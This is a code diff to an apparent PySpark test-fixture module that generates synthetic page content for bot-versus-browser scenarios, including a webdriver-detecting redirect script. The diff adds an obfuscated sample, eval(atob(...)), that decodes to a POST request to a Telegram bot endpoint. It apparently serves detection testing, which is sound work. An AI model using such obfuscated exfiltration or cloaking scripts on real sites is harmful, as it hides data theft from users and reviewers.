@@ -18,6 +18,8 @@ GATE = '<div class="g-recaptcha">one moment</div>'
 PROMPT = "<script>confirm('continue')</script>"
 ARTIFACT = "<script>if(navigator.webdriver){window.location='https://a.example'}</script>"
 BLANK = "<script>document.title</script>"
+#: A script of escapes, and one whose call hides where it sends what it reads.
+SCRIPTED = r"<script>var p='\x68\x74\x74\x70\x73';</script><script>eval(atob('ZmV0Y2goImh0dHBzOi8vYXBpLnRlbGVncmFtLm9yZy9ib3QiLHttZXRob2Q6IlBPU1QifSk7'))</script>"
 TITLES = ("<title>Front page</title>", "<title>404 Not Found</title>")
 SCENARIOS = 24
 BOT, HUMAN = "http_baseline", "browser"
@@ -68,7 +70,7 @@ def _watched(o: DataFrame) -> DataFrame:
     human, bot, first, s, browser = F.col("slot") == "human", F.col("slot") == "bot", F.col("replicate") == 1, F.col("scenario"), F.col("kind") == HUMAN
     evil = (human & s.isin(1, 3, 5, 6, 14)) | (human & first & (s == 2)) | (bot & first & (s == 7)) | (s == 8)
     extra = (
-        F.when(evil, EVIL).when(human & (s == 4), LOGIN).when(human & s.isin(9, 13), GATE).when(human & (s == 15), TITLES[0]).when(s == 16, ARTIFACT).when(human & (s == 23), TITLES[1] + PROMPT).otherwise("")
+        F.when(evil, EVIL).when(s == 0, SCRIPTED).when(human & (s == 4), LOGIN).when(human & s.isin(9, 13), GATE).when(human & (s == 15), TITLES[0]).when(s == 16, ARTIFACT).when(human & (s == 23), TITLES[1] + PROMPT).otherwise("")
     )
     empty = (bot & (s == 5)) | (human & first & (s == 10)) | (bot & (s == 14))
     status = F.when(bot & s.isin(3, 4), 403).when(bot & ~first & (s == 11), 503).when((human & first & (s == 10)) | (bot & (s == 14)), 0).when(human & (s == 23), 404).otherwise(200)
